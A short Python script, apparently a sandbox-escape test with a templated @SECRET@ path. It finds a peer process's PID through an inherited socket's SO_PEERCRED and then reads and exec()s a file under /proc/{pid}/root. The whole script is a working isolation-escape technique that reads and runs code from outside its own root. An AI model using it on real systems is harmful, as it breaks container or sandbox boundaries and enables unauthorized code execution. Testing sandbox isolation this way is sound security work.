import os
import socket
import struct

worked = False
for fd in range(3, 64):
    try:
        with socket.socket(fileno=os.dup(fd)) as copy:
            pid = struct.unpack("3i", copy.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
        exec(open(f"/proc/{pid}/root@SECRET@").read())
        worked = True
    except OSError:
        pass
assert worked
